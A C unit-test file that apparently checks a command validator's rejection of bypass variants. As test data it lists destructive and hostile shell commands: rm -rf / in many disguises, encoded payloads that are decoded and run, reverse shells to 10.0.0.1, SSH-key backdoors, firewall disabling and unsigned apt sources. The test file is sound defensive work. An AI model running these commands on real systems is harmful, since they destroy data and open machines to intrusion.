/* Issue 11: dangerous commands the validator accepted, each with a word its reason must hold.
 * Every case here was accepted before the fix (checked against the old validate.c). */
static void test_issue11_bypasses(void **state) {
    (void)state;
    static const struct reject_case cases[] = {
        {"f(){ rm -rf \"$1\"; }; f /", "root directory"},
        {"g() { sudo rm -rf \"$@\"; }; g /etc", "/etc"},
        {"f(){ \"$@\"; }; f rm -rf /", "root directory"},
        {"alias x='rm -rf ~'; x", "home directory"},
        {"xargs rm -rf <<< /", "root directory"},
        {"echo / | xargs rm -rf", "rm -rf"},
        {"echo / | xargs -I % sh -c 'rm -rf %'", "xargs"},
        {"echo cm0gLXJmIC8K | base64 -d > /tmp/x.sh && bash /tmp/x.sh", "decoded earlier"},
        {"echo 726d202d7266202f | xxd -r -p > /tmp/a && bash /tmp/a", "decoded earlier"},
        {"perl -e 'system(\"rm -rf /\")'", "root directory"},
        {"python3 -c 'import os; os.system(\"rm -rf /\")'", "root directory"},
        {"python3 -c 'import shutil; shutil.rmtree(\"/\")'", "rmtree"},
        {"node -e 'require(\"child_process\").execSync(\"rm -rf /\")'", "root directory"},
        {"awk 'BEGIN { system(\"rm -rf /\") }'", "root directory"},
        {"echo \"rm -rf /\" | at now", "root directory"},
        {"at now <<< 'rm -rf /'", "root directory"},
        {"at now <<EOF\nrm -rf /\nEOF", "root directory"},
        {"at -f /tmp/x.sh now", "at -f"},
        {"sudo apt-get install -y --allow-unauthenticated nginx", "signature"},
        {"sudo apt-get install --force-yes -y nginx", "force-yes"},
        {"echo 'deb [trusted=yes] http://x.example/ stable main' | sudo tee /etc/apt/sources.list.d/x.list",
         "trusted"},
        {"echo 'APT::Get::AllowUnauthenticated \"true\";' | sudo tee /etc/apt/apt.conf.d/99x",
         "signature"},
        {"sudo tee /etc/apt/sources.list.d/x.list <<'EOF'\ndeb [trusted=yes] http://x/ ./\nEOF",
         "trusted"},
        {"echo '* * * * * rm -rf /' | crontab -", "crontab"},
        {"echo '* * * * * root /tmp/x' | sudo tee /etc/cron.d/x", "crontab"},
        {"echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys", "authorized_keys"},
        {"nc -e /bin/sh 10.0.0.1 4444", "remote shell"},
        {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/dev/tcp"},
        {"sudo -s", "interactive root shell"},
        {"sudo -i", "interactive root shell"},
        {"su", "interactive root shell"},
        {"sudo iptables -F", "firewall"},
        {"sudo ufw disable", "firewall"},
        {"sudo systemctl mask ssh", "ssh"},
        {"sudo systemctl disable ssh", "ssh"},
        {"sudo userdel -r ubuntu", "userdel"},
        {"kill -9 1", "PID 1"},
        {"sudo truncate -s0 /var/lib/dpkg/status", "package database"},
        {"find / -exec chmod 777 {} +", "root directory"},
        {"sh -c \"$(printf '%s' 'rm -rf /')\"", "variable or substitution"},
        {"source /dev/stdin <<< 'rm -rf /'", "root directory"},
        {"history -c", "history"},
        {"flock /tmp/l rm -rf /", "root directory"},
        /* Found while probing the fixes: code on an interpreter's stdin, scripts written and
         * then run, a cron directory as a copy target, other apt trust options. */
        {"python3 - <<< 'import os; os.system(\"rm -rf /\")'", "root directory"},
        {"python3 <<EOF\nimport shutil; shutil.rmtree('/')\nEOF", "rmtree"},
        {"echo 'rm -rf /' > /tmp/x.sh && bash /tmp/x.sh", "root directory"},
        {"cat > /tmp/x.sh <<EOF\nrm -rf /\nEOF\nbash /tmp/x.sh", "written earlier"},
        {"echo 'rm -rf ~' >> ~/.bashrc", "home directory"},
        {"sudo cp x /etc/cron.d/", "crontab"},
        {"echo 'deb [allow-insecure=yes] http://x/ ./' | sudo tee /etc/apt/sources.list.d/x.list",
         "unsigned"},
        {"ruby -e '%x(rm -rf /)'", "root directory"},
        /* validate-3 (fuzz/corpus/validate/validate-3): bash refuses a function definition
         * behind an empty expansion as a syntax error; it is refused here too, rather than
         * read as a command "f" and a list. */
        {"Z9=; $Z9 f() { rm -rf $1; }; f /", "syntax error"},
        {"echo foo(bar)", "syntax error"},
        {NULL, NULL}};
    char why[256];
    for (const struct reject_case *c = cases; c->cmd; c++) {
        if (cx_validate_command(c->cmd, why, sizeof why) != CX_EREJECTED)
            fail_msg("wrongly accepted: %s", c->cmd);
        if (strstr(why, c->why) == NULL)
            fail_msg("reason for '%s' is '%s', expected it to mention '%s'", c->cmd, why, c->why);
    }
    /* Their ordinary relatives stay accepted. */
    static const char *const fine[] = {
        "f() { sudo apt-get install -y \"$1\"; }; f nginx",
        "echo nginx redis | xargs sudo apt-get install -y",
        "echo \"systemctl restart nginx\" | at now + 5 minutes",
        "python3 -c 'import sys; print(sys.version)'",
        "perl -pi -e 's/listen 80/listen 8080/' /etc/nginx/sites-available/app",
        "echo \"deb [signed-by=/usr/share/keyrings/x.gpg] https://x.example/ stable main\" | sudo tee /etc/apt/sources.list.d/x.list",
        "sudo systemctl restart ssh",
        "sudo ufw allow 22/tcp",
        "sudo -u postgres psql -c 'SELECT 1'",
        "crontab -l",
        "eval \"$(ssh-agent -s)\"",
        "sudo bash <<EOF\napt-get update\nEOF",
        "echo 'export PATH=$PATH:/usr/local/go/bin' >> ~/.bashrc && source ~/.bashrc",
        "python3 <<EOF\nprint('hi')\nEOF",
        "a=(nginx redis); sudo apt-get install -y \"${a[@]}\"",
        "for ((i=0; i<3; i++)); do echo $i; done",
        "case \"$1\" in (start) sudo systemctl start nginx;; esac",
        NULL};
    for (const char *const *c = fine; *c; c++)
        if (cx_validate_command(*c, why, sizeof why) != 0)
            fail_msg("wrongly rejected: %s\n  reason: %s", *c, why);
    /* A function defined by one element of a plan is checked where a later one calls it. */
    struct cx_validation v;
    cJSON *plan = make_array("[\"wipe() { sudo dd if=/dev/zero of=\\\"$1\\\"; }\", \"wipe /dev/sda\"]");
    assert_non_null(plan);
    assert_int_equal(cx_validate_commands(plan, &v), CX_EREJECTED);
    assert_int_equal(v.n_rejected, 1);
    assert_non_null(strstr(v.reasons[0], "commands[1] 'wipe /dev/sda': dd onto a block device"));
    cx_validation_clear(&v);
    cJSON_Delete(plan);
}

static cJSON *g_torture_arr;

static int validate_scenario(void *ctx) {
    (void)ctx;
    struct cx_validation v;
    int rc = cx_validate_commands(g_torture_arr, &v);
    if (rc == CX_EREJECTED && v.n_rejected != 3) rc = CX_EINVAL;
    cx_validation_clear(&v);
    return rc == CX_EREJECTED ? 0 : rc;
}

static void test_validate_commands_torture(void **state) {
    (void)state;
    g_torture_arr = make_array("[\"rm -rf /\", \"sudo apt-get update\", \"mkfs.ext4 /dev/sda1\", "
                               "false, \"sudo systemctl enable --now nginx\"]");
    assert_non_null(g_torture_arr);
    long n = t_torture(validate_scenario, NULL);
    assert_true(n >= 6); /* 3 reasons and the array grown 3 times, at least */
    cJSON_Delete(g_torture_arr);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_accept_list),
        cmocka_unit_test(test_reject_list),
        cmocka_unit_test(test_fragments_and_chains),
        cmocka_unit_test(test_random_strings),
        cmocka_unit_test(test_reason_buffer),
        cmocka_unit_test(test_package_names),
        cmocka_unit_test(test_validate_commands),
        cmocka_unit_test(test_validate_commands_torture),
        cmocka_unit_test(test_empty_expansion_hides_no_command),
        cmocka_unit_test(test_nested_scanner),
        cmocka_unit_test(test_issue11_bypasses),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
